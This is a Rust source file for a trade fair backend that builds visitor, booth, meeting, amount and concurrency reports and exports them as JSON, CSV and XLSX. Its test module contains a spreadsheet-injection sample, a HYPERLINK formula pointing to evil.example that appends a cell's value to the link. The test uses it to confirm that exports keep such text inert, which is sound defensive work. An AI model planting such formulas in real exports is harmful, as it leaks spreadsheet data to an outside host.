//! Reports for any time range: visitors, booths and halls, leads, meetings by country and by
//! hall, interpreter use, consultation and contract amounts, what each stage show brought in
//! (quote and sample requests, meetings booked from it), and the concurrency curve.
//!
//! Every section is one [`ReportSection`] built straight from the records, and the JSON, CSV and XLSX
//! exports are renderings of the same tables, so an export can never disagree with the page.
//! An exhibitor gets the same sections filtered to its own company.

use super::dashboard::fair_day;
use crate::auth::Caller;
use crate::error::{ApiError, ApiResult};
use crate::error::{Path, Query};
use crate::store::now_ms;
use crate::AppState;
use axum::extract::State;
use axum::http::header;
use axum::response::{IntoResponse, Response};
use axum::Json;
use expo_schema::api::RangeQuery;
use expo_schema::api::{Report, ReportSection};
use expo_schema::{ErrorBody, Role};
use serde_json::{json, Value};
use sqlx::any::AnyRow;
use sqlx::Row;
use utoipa_axum::{router::OpenApiRouter, routes};

pub fn router() -> OpenApiRouter<AppState> {
    OpenApiRouter::new()
        .routes(routes!(report))
        .routes(routes!(report_xlsx))
        .routes(routes!(report_csv))
        .routes(routes!(company_stats))
}

fn bound(state: &AppState, value: Option<&str>, end: bool, default: i64) -> ApiResult<i64> {
    let Some(value) = value.map(str::trim).filter(|v| !v.is_empty()) else {
        return Ok(default);
    };
    if let Ok(ms) = value.parse::<i64>() {
        return Ok(ms);
    }
    let day = chrono::NaiveDate::parse_from_str(value, "%Y-%m-%d")
        .map_err(|_| ApiError::validation("from/to are UTC ms or YYYY-MM-DD"))?;
    let noon = day
        .and_hms_opt(12, 0, 0)
        .map(|t| t.and_utc().timestamp_millis())
        .unwrap_or_default();
    let (_, start, next) = fair_day(state, noon);
    Ok(if end { next } else { start })
}

/// The span a report covers, in UTC milliseconds.
fn range_of(query: &RangeQuery, state: &AppState) -> ApiResult<(i64, i64)> {
    let from = bound(state, query.from.as_deref(), false, 0)?;
    let to = bound(
        state,
        query.to.as_deref(),
        true,
        now_ms() + 366 * 86_400_000,
    )?;
    if to <= from {
        return Err(ApiError::validation("to must be after from"));
    }
    Ok((from, to))
}

fn table(name: &str, columns: &[&str], rows: Vec<Vec<Value>>) -> ReportSection {
    ReportSection {
        name: name.into(),
        columns: columns.iter().map(|c| c.to_string()).collect(),
        rows,
    }
}

fn int(row: &AnyRow, column: &str) -> sqlx::Result<Value> {
    Ok(json!(row.try_get::<Option<i64>, _>(column)?.unwrap_or(0)))
}

fn text(row: &AnyRow, column: &str) -> sqlx::Result<Value> {
    Ok(json!(row
        .try_get::<Option<String>, _>(column)?
        .unwrap_or_default()))
}

async fn rows(
    state: &AppState,
    sql: &str,
    from: i64,
    to: i64,
    company: Option<i64>,
) -> ApiResult<Vec<AnyRow>> {
    Ok(sqlx::query(sql)
        .bind(from)
        .bind(to)
        .bind(company.unwrap_or(-1))
        // Open visits count up to the end of the range or now, whichever comes first (the
        // meetings clock: wall time except in tests that move it).
        .bind(state.now_ms().min(to))
        .fetch_all(state.store.pool())
        .await?)
}

/// `$3 = -1` means every company.
const COMPANY: &str = "($3 = -1 or c.id = $3)";

/// Meeting counts per group, with the same definitions everywhere: `held` = confirmed, over
/// and nobody missing; `no_show` = confirmed, over, and a side never checked in.
fn meeting_counts(group: Option<&str>, label: &str, join: &str) -> String {
    let grouping = group
        .map(|g| format!("group by {g} order by {g}"))
        .unwrap_or_default();
    format!(
        "select {label} as label, count(*) as requested, \
         sum(case when m.state = 'confirmed' then 1 else 0 end) as confirmed, \
         sum(case when m.state = 'confirmed' and m.closed_ms is not null \
             and m.buyer_no_show = 0 and m.company_no_show = 0 then 1 else 0 end) as held, \
         sum(case when m.state = 'confirmed' and m.closed_ms is not null \
             and (m.buyer_no_show = 1 or m.company_no_show = 1) then 1 else 0 end) as no_show, \
         sum(case when m.state = 'cancelled' then 1 else 0 end) as cancelled, \
         sum(case when m.state = 'declined' then 1 else 0 end) as declined, \
         sum(case when m.state = 'expired' or (m.state = 'requested' and m.expires_ms <= $4) then 1 else 0 end) as expired, \
         sum(case when m.interpreter_id is not null then 1 else 0 end) as interpreted \
         from meetings m join companies c on c.id = m.company_id join users b on b.id = m.buyer_id {join} \
         where m.starts_ms >= $1 and m.starts_ms < $2 and {COMPANY} {grouping}"
    )
}

const MEETING_COLUMNS: &[&str] = &[
    "requested",
    "confirmed",
    "held",
    "no_show",
    "cancelled",
    "declined",
    "expired",
    "with_interpreter",
];

fn meeting_row(row: &AnyRow) -> sqlx::Result<Vec<Value>> {
    let mut out = vec![text(row, "label")?];
    for column in [
        "requested",
        "confirmed",
        "held",
        "no_show",
        "cancelled",
        "declined",
        "expired",
        "interpreted",
    ] {
        out.push(int(row, column)?);
    }
    Ok(out)
}

fn amounts(group: Option<&str>, label: &str, join: &str) -> String {
    let grouping = group
        .map(|g| format!("group by {g} order by {g}"))
        .unwrap_or_default();
    format!(
        "select {label} as label, count(*) as outcomes, \
         cast(coalesce(sum(m.consult_usd), 0) as bigint) as consult_usd, \
         cast(coalesce(sum(m.contract_usd), 0) as bigint) as contract_usd, \
         cast(coalesce(sum(m.mou_signed), 0) as bigint) as mou_signed, \
         cast(coalesce(sum(m.samples_requested), 0) as bigint) as samples \
         from meetings m join companies c on c.id = m.company_id join users b on b.id = m.buyer_id {join} \
         where m.outcome_ms is not null and m.outcome_ms <= $4 and m.starts_ms >= $1 \
         and m.starts_ms < $2 and {COMPANY} {grouping}"
    )
}

fn amount_row(row: &AnyRow) -> sqlx::Result<Vec<Value>> {
    Ok(vec![
        text(row, "label")?,
        int(row, "outcomes")?,
        int(row, "consult_usd")?,
        int(row, "contract_usd")?,
        int(row, "mou_signed")?,
        int(row, "samples")?,
    ])
}

const AMOUNT_COLUMNS: &[&str] = &[
    "meetings_with_outcome",
    "consult_usd",
    "contract_usd",
    "mou_signed",
    "samples_requested",
];

fn with_label(label: &str, rest: &[&str]) -> Vec<String> {
    std::iter::once(label)
        .chain(rest.iter().copied())
        .map(String::from)
        .collect()
}

/// Builds every section for `[from, to)`, fair-wide or for one company.
pub async fn build(
    state: &AppState,
    from: i64,
    to: i64,
    company: Option<i64>,
    bucket_minutes: i64,
) -> ApiResult<Report> {
    let mut sections = Vec::new();
    // Visits: dwell counts open visits up to now (or the range's end); onsite scans have no
    // dwell.
    let visits = format!(
        "select c.id as company_id, c.name as company, coalesce(h.name, '') as hall, \
         count(v.id) as visits, count(distinct v.user_id) as visitors, \
         sum(case when v.source = 'onsite' then 1 else 0 end) as onsite_visits, \
         cast(coalesce(sum(case when v.source = 'online' then coalesce(v.left_ms, $4) - v.entered_ms else 0 end), 0) as bigint) as dwell_ms, \
         count(distinct case when u.role = 'buyer' then v.user_id end) as leads, \
         count(distinct case when u.role = 'buyer' and u.share_contact = 1 then v.user_id end) as leads_with_contact \
         from companies c left join halls h on h.id = c.hall_id \
         left join booth_visits v on v.company_id = c.id and v.entered_ms >= $1 and v.entered_ms < $2 \
         left join users u on u.id = v.user_id \
         where {COMPANY} group by c.id, c.name, h.name order by c.id"
    );
    let booth_rows = rows(state, &visits, from, to, company).await?;
    let mut booths = Vec::new();
    for row in &booth_rows {
        let visits = row.try_get::<i64, _>("visits")?;
        let onsite = row.try_get::<Option<i64>, _>("onsite_visits")?.unwrap_or(0);
        let dwell_ms = row.try_get::<Option<i64>, _>("dwell_ms")?.unwrap_or(0);
        // Minutes to one decimal; the average is over online visits (a badge scan has no
        // dwell time).
        let minutes = |ms: f64| (ms / 6_000.0).round() / 10.0;
        let online = visits - onsite;
        booths.push(vec![
            int(row, "company_id")?,
            text(row, "company")?,
            text(row, "hall")?,
            json!(visits),
            int(row, "visitors")?,
            json!(onsite),
            json!(minutes(dwell_ms as f64)),
            json!(if online > 0 {
                minutes(dwell_ms as f64 / online as f64)
            } else {
                0.0
            }),
            int(row, "leads")?,
            int(row, "leads_with_contact")?,
        ]);
    }
    if company.is_none() {
        let buyers_online: Vec<(i64, Option<String>)> = sqlx::query_as(
            "select distinct s.user_id, u.country from online_sessions s join users u on u.id = s.user_id \
             where u.role = 'buyer' and s.connected_ms < $2 and (s.disconnected_ms is null or s.disconnected_ms >= $1)",
        )
        .bind(from)
        .bind(to)
        .fetch_all(state.store.pool())
        .await?;
        let buyers_onsite: Vec<(i64, Option<String>)> = sqlx::query_as(
            "select distinct k.user_id, u.country from onsite_checkins k join users u on u.id = k.user_id \
             where u.role = 'buyer' and k.at_ms >= $1 and k.at_ms < $2",
        )
        .bind(from)
        .bind(to)
        .fetch_all(state.store.pool())
        .await?;
        let online: std::collections::HashMap<i64, String> = buyers_online
            .into_iter()
            .map(|(id, c)| (id, c.unwrap_or_default()))
            .collect();
        let onsite: std::collections::HashMap<i64, String> = buyers_onsite
            .into_iter()
            .map(|(id, c)| (id, c.unwrap_or_default()))
            .collect();
        let both = online.keys().filter(|id| onsite.contains_key(id)).count();
        let mut all: std::collections::HashMap<i64, String> = online.clone();
        all.extend(onsite.clone());
        let mut countries: std::collections::BTreeMap<String, (i64, i64, i64)> = Default::default();
        for (id, country) in &all {
            let entry = countries.entry(country.clone()).or_default();
            entry.0 += i64::from(online.contains_key(id));
            entry.1 += i64::from(onsite.contains_key(id));
            entry.2 += 1;
        }
        let exhibitors: i64 = sqlx::query_scalar(
            "select count(distinct c.id) from companies c where exists (select 1 from online_sessions s \
             join users u on u.id = s.user_id where u.company_id = c.id and s.connected_ms < $2 \
             and (s.disconnected_ms is null or s.disconnected_ms >= $1))",
        )
        .bind(from)
        .bind(to)
        .fetch_one(state.store.pool())
        .await?;
        let totals = rows(state, &meeting_counts(None, "'all'", ""), from, to, None).await?;
        let money = rows(state, &amounts(None, "'all'", ""), from, to, None).await?;
        let pick = |rows: &[AnyRow], col: &str| -> sqlx::Result<Value> {
            match rows.first() {
                Some(r) => int(r, col),
                None => Ok(json!(0)),
            }
        };
        let sum = |i: usize| {
            booths
                .iter()
                .map(|r| r[i].as_i64().unwrap_or(0))
                .sum::<i64>()
        };
        let summary = vec![
            vec![json!("buyers_online"), json!(online.len())],
            vec![json!("buyers_onsite"), json!(onsite.len())],
            vec![json!("buyers_both"), json!(both)],
            vec![json!("buyers_total"), json!(all.len())],
            vec![json!("buyer_countries"), json!(countries.len())],
            vec![json!("exhibitors_online"), json!(exhibitors)],
            vec![json!("booth_visits"), json!(sum(3))],
            vec![json!("leads_with_contact"), json!(sum(9))],
            vec![json!("meetings_requested"), pick(&totals, "requested")?],
            vec![json!("meetings_confirmed"), pick(&totals, "confirmed")?],
            vec![json!("meetings_held"), pick(&totals, "held")?],
            vec![json!("meetings_no_show"), pick(&totals, "no_show")?],
            vec![json!("meetings_cancelled"), pick(&totals, "cancelled")?],
            vec![
                json!("meetings_with_interpreter"),
                pick(&totals, "interpreted")?,
            ],
            vec![json!("consult_usd"), pick(&money, "consult_usd")?],
            vec![json!("contract_usd"), pick(&money, "contract_usd")?],
            vec![json!("mou_signed"), pick(&money, "mou_signed")?],
        ];
        sections.push(table("summary", &["figure", "value"], summary));
        sections.push(table(
            "visitors_by_country",
            &["country", "online", "onsite", "total"],
            countries
                .into_iter()
                .map(|(c, (a, b, t))| vec![json!(c), json!(a), json!(b), json!(t)])
                .collect(),
        ));
    }
    let halls = {
        let hall_visitors = format!(
            "select coalesce(h.name, '') as hall, count(distinct v.user_id) as visitors \
             from booth_visits v join companies c on c.id = v.company_id left join halls h on h.id = c.hall_id \
             where v.entered_ms >= $1 and v.entered_ms < $2 and v.entered_ms <= $4 and {COMPANY} group by h.name"
        );
        let distinct: std::collections::HashMap<String, i64> =
            rows(state, &hall_visitors, from, to, company)
                .await?
                .iter()
                .map(|r| {
                    Ok((
                        r.try_get::<String, _>("hall")?,
                        r.try_get::<i64, _>("visitors")?,
                    ))
                })
                .collect::<sqlx::Result<_>>()?;
        let mut per: std::collections::BTreeMap<String, (i64, i64, f64)> = Default::default();
        for row in &booths {
            let hall = row[2].as_str().unwrap_or("").to_string();
            let e = per.entry(hall.clone()).or_default();
            e.0 += row[3].as_i64().unwrap_or(0);
            e.1 = distinct.get(&hall).copied().unwrap_or(0);
            e.2 += row[6].as_f64().unwrap_or(0.0);
        }
        per.into_iter()
            .filter(|(_, v)| company.is_none() || v.0 > 0)
            .map(|(h, (v, u, d))| {
                vec![
                    json!(h),
                    json!(v),
                    json!(u),
                    json!((d * 10.0).round() / 10.0),
                ]
            })
            .collect()
    };
    sections.push(table(
        "booths",
        &[
            "company_id",
            "company",
            "hall",
            "visits",
            "unique_visitors",
            "onsite_visits",
            "dwell_minutes",
            "avg_dwell_minutes",
            "leads",
            "leads_with_contact",
        ],
        booths,
    ));
    sections.push(table(
        "halls",
        &["hall", "visits", "unique_visitors", "dwell_minutes"],
        halls,
    ));
    // Grouped sections: (name, label column, SQL, row reader).
    type Reader = fn(&AnyRow) -> sqlx::Result<Vec<Value>>;
    let grouped: [(&str, Vec<String>, String, Reader); 5] = [
        (
            "meetings_by_country",
            with_label("buyer_country", MEETING_COLUMNS),
            meeting_counts(Some("b.country"), "coalesce(b.country, '')", ""),
            meeting_row,
        ),
        (
            "meetings_by_hall",
            with_label("hall", MEETING_COLUMNS),
            meeting_counts(
                Some("h.name"),
                "coalesce(h.name, '')",
                "left join halls h on h.id = c.hall_id",
            ),
            meeting_row,
        ),
        (
            "interpreters",
            with_label("interpreter", MEETING_COLUMNS),
            meeting_counts(
                Some("i.name"),
                "i.name",
                "join users i on i.id = m.interpreter_id",
            ),
            meeting_row,
        ),
        (
            "amounts_by_country",
            with_label("buyer_country", AMOUNT_COLUMNS),
            amounts(Some("b.country"), "coalesce(b.country, '')", ""),
            amount_row,
        ),
        (
            "amounts_by_company",
            with_label("company", AMOUNT_COLUMNS),
            amounts(Some("c.name"), "c.name", ""),
            amount_row,
        ),
    ];
    for (name, columns, sql, read) in grouped {
        let found = rows(state, &sql, from, to, company).await?;
        sections.push(ReportSection {
            name: name.into(),
            columns,
            rows: found.iter().map(read).collect::<sqlx::Result<_>>()?,
        });
    }
    sections.push(shows(state, from, to, company).await?);
    if company.is_none() {
        sections.push(concurrency(state, from, to, bucket_minutes).await?);
    }
    Ok(Report {
        from_ms: from,
        to_ms: to,
        company_id: company,
        sections,
    })
}

/// People online over time: distinct users with a session overlapping each bucket.
/// Commerce in the stream, per show: the quote and sample requests sent from it and the
/// meetings booked from it within the range (for one company: its own). Fair-wide every show
/// is listed; a company's report lists the shows that brought it something.
async fn shows(
    state: &AppState,
    from: i64,
    to: i64,
    company: Option<i64>,
) -> ApiResult<ReportSection> {
    let requests = |kind: &str| {
        format!(
            "(select count(*) from quote_requests q where q.show_id = s.id and q.kind = '{kind}' \
             and q.created_ms >= $1 and q.created_ms < $2 and ($3 = -1 or q.company_id = $3))"
        )
    };
    let sql = format!(
        "select s.id as show_id, s.title as show, coalesce(c.name, '') as host, \
         {} as quote_requests, {} as sample_requests, \
         (select count(*) from meetings m where m.show_id = s.id \
          and m.created_ms >= $1 and m.created_ms < $2 and ($3 = -1 or m.company_id = $3)) \
         as meetings_booked \
         from shows s left join companies c on c.id = s.host_company_id \
         order by s.starts_ms, s.id",
        requests("quote"),
        requests("sample")
    );
    let found = sqlx::query(&sql)
        .bind(from)
        .bind(to)
        .bind(company.unwrap_or(-1))
        .fetch_all(state.store.pool())
        .await?;
    let mut rows = Vec::new();
    for row in &found {
        let counts = [
            int(row, "quote_requests")?,
            int(row, "sample_requests")?,
            int(row, "meetings_booked")?,
        ];
        if company.is_some() && counts.iter().all(|n| n.as_i64() == Some(0)) {
            continue;
        }
        let mut cells = vec![int(row, "show_id")?, text(row, "show")?, text(row, "host")?];
        cells.extend(counts);
        rows.push(cells);
    }
    Ok(table(
        "shows",
        &[
            "show_id",
            "show",
            "host",
            "quote_requests",
            "sample_requests",
            "meetings_booked",
        ],
        rows,
    ))
}

async fn concurrency(
    state: &AppState,
    from: i64,
    to: i64,
    bucket_minutes: i64,
) -> ApiResult<ReportSection> {
    let now = now_ms();
    let spans: Vec<(i64, i64, Option<i64>)> = sqlx::query_as(
        "select user_id, connected_ms, disconnected_ms from online_sessions \
         where connected_ms < $2 and (disconnected_ms is null or disconnected_ms >= $1) \
         order by connected_ms",
    )
    .bind(from)
    .bind(to)
    .fetch_all(state.store.pool())
    .await?;
    let last = to.min(now);
    // From the first session in range; with none, the last day of the range.
    let first = spans
        .iter()
        .map(|s| s.1)
        .min()
        .unwrap_or(last - 86_400_000)
        .max(from);
    let mut bucket = bucket_minutes.clamp(1, 1440) * 60_000;
    while last > first && (last - first) / bucket > 2000 {
        bucket *= 2;
    }
    let tz: chrono_tz::Tz = state
        .config
        .fair_timezone
        .parse()
        .unwrap_or(chrono_tz::Asia::Seoul);
    let mut out = Vec::new();
    let mut at = first - first.rem_euclid(bucket);
    while at < last {
        let end = at + bucket;
        let people: std::collections::HashSet<i64> = spans
            .iter()
            .filter(|(_, c, d)| *c < end && d.unwrap_or(now) >= at)
            .map(|(u, _, _)| *u)
            .collect();
        let label = chrono::DateTime::from_timestamp_millis(at)
            .unwrap_or_default()
            .with_timezone(&tz)
            .to_rfc3339();
        out.push(vec![json!(label), json!(at), json!(people.len())]);
        at = end;
    }
    Ok(table(
        "concurrency",
        &["bucket_start", "bucket_start_ms", "people_online"],
        out,
    ))
}

/// Fair reports for a time range (organizers): every section as a table.
#[utoipa::path(get, path = "/api/v1/reports", tag = "monitoring", params(RangeQuery),
    responses((status = 200, body = Report), (status = 403, body = ErrorBody)))]
pub async fn report(
    State(state): State<AppState>,
    caller: Caller,
    Query(query): Query<RangeQuery>,
) -> ApiResult<Json<Report>> {
    caller.require_role(Role::Organizer)?;
    let (from, to) = range_of(&query, &state)?;
    Ok(Json(
        build(&state, from, to, None, query.bucket_minutes.unwrap_or(15)).await?,
    ))
}

/// One section as CSV (`/api/v1/reports/{section}.csv`, organizers), UTF-8 with a BOM so
/// spreadsheet programs read Korean, Chinese and Cyrillic names right.
#[utoipa::path(get, path = "/api/v1/reports/{file}", tag = "monitoring",
    params(("file" = String, Path, description = "`{section}.csv`"), RangeQuery),
    responses((status = 200, content_type = "text/csv"), (status = 403, body = ErrorBody), (status = 404, body = ErrorBody)))]
pub async fn report_csv(
    State(state): State<AppState>,
    caller: Caller,
    Path(file): Path<String>,
    Query(query): Query<RangeQuery>,
) -> ApiResult<Response> {
    caller.require_role(Role::Organizer)?;
    let section = file
        .strip_suffix(".csv")
        .ok_or_else(|| ApiError::not_found("reports are {section}.csv"))?;
    let (from, to) = range_of(&query, &state)?;
    let report = build(&state, from, to, None, query.bucket_minutes.unwrap_or(15)).await?;
    let table = report
        .sections
        .iter()
        .find(|t| t.name == section)
        .ok_or_else(|| ApiError::not_found(format!("no report section {section:?}")))?;
    csv_response(table, &format!("{section}.csv"))
}

pub fn csv_bytes(table: &ReportSection) -> ApiResult<Vec<u8>> {
    let mut out = b"\xEF\xBB\xBF".to_vec();
    {
        let mut writer = csv::Writer::from_writer(&mut out);
        writer
            .write_record(&table.columns)
            .map_err(|e| ApiError::Other(e.into()))?;
        for row in &table.rows {
            let cells: Vec<String> = row
                .iter()
                .map(|v| match v {
                    // Text from people (company and booth names) may look like a formula.
                    Value::String(s) => crate::http::guard::csv_cell(s).into_owned(),
                    other => other.to_string(),
                })
                .collect();
            writer
                .write_record(&cells)
                .map_err(|e| ApiError::Other(e.into()))?;
        }
        writer.flush().map_err(|e| ApiError::Other(e.into()))?;
    }
    Ok(out)
}

fn csv_response(table: &ReportSection, name: &str) -> ApiResult<Response> {
    Ok((
        [
            (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_string()),
            (
                header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"{name}\""),
            ),
        ],
        csv_bytes(table)?,
    )
        .into_response())
}

/// Every section as one XLSX workbook, a sheet per section (organizers).
#[utoipa::path(get, path = "/api/v1/reports.xlsx", tag = "monitoring", params(RangeQuery),
    responses((status = 200, content_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"), (status = 403, body = ErrorBody)))]
pub async fn report_xlsx(
    State(state): State<AppState>,
    caller: Caller,
    Query(query): Query<RangeQuery>,
) -> ApiResult<Response> {
    caller.require_role(Role::Organizer)?;
    let (from, to) = range_of(&query, &state)?;
    let report = build(&state, from, to, None, query.bucket_minutes.unwrap_or(15)).await?;
    let bytes = xlsx_bytes(&report.sections)?;
    Ok((
        [
            (
                header::CONTENT_TYPE,
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet".to_string(),
            ),
            (
                header::CONTENT_DISPOSITION,
                "attachment; filename=\"expo-report.xlsx\"".to_string(),
            ),
        ],
        bytes,
    )
        .into_response())
}

/// The tables as an XLSX workbook, one sheet each. Text is written as string cells, never as
/// formulas, so a company named `=HYPERLINK(…)` stays text in every spreadsheet program.
pub fn xlsx_bytes(tables: &[ReportSection]) -> ApiResult<Vec<u8>> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let bold = rust_xlsxwriter::Format::new().set_bold();
    let fail = |e: rust_xlsxwriter::XlsxError| ApiError::Other(e.into());
    for table in tables {
        let sheet = book.add_worksheet();
        sheet.set_name(&table.name).map_err(fail)?;
        for (c, name) in table.columns.iter().enumerate() {
            sheet
                .write_string_with_format(0, c as u16, name, &bold)
                .map_err(fail)?;
        }
        for (r, row) in table.rows.iter().enumerate() {
            for (c, value) in row.iter().enumerate() {
                let (r, c) = (r as u32 + 1, c as u16);
                match value {
                    Value::Number(n) => sheet.write_number(r, c, n.as_f64().unwrap_or(0.0)),
                    Value::String(s) => sheet.write_string(r, c, s),
                    other => sheet.write_string(r, c, other.to_string()),
                }
                .map_err(fail)?;
            }
        }
    }
    book.save_to_buffer().map_err(fail)
}

/// A company's own figures: its booth, leads, meetings and outcomes (its staff and
/// organizers; never another company's).
#[utoipa::path(get, path = "/api/v1/companies/{id}/stats", tag = "monitoring",
    params(("id" = i64, Path, description = "company id"), RangeQuery),
    responses((status = 200, body = Report), (status = 403, body = ErrorBody)))]
pub async fn company_stats(
    State(state): State<AppState>,
    caller: Caller,
    Path(company_id): Path<i64>,
    Query(query): Query<RangeQuery>,
) -> ApiResult<Json<Report>> {
    crate::booths::require_editor(&caller, company_id)?;
    let (from, to) = range_of(&query, &state)?;
    Ok(Json(build(&state, from, to, Some(company_id), 15).await?))
}

#[cfg(test)]
mod export_tests {
    use super::*;

    /// Text that looks like a formula stays text in both exports.
    #[test]
    fn exports_carry_no_formulas() {
        let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
        let table = ReportSection {
            name: "booths".into(),
            columns: vec!["name".into(), "visits".into()],
            rows: vec![vec![Value::String(evil.into()), serde_json::json!(-3)]],
        };
        let csv = String::from_utf8(csv_bytes(&table).unwrap()).unwrap();
        assert!(
            csv.contains(&format!("\"'{}\"", evil.replace('"', "\"\""))),
            "{csv}"
        );
        assert!(csv.contains(",-3"), "numbers stay numbers: {csv}");
        let bytes = xlsx_bytes(std::slice::from_ref(&table)).unwrap();
        use calamine::Reader;
        let mut book = calamine::Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
        let formulas = book.worksheet_formula("booths").unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "no formula cells"
        );
        let values = book.worksheet_range("booths").unwrap();
        assert_eq!(
            values.get_value((1, 0)),
            Some(&calamine::Data::String(evil.into()))
        );
    }
}
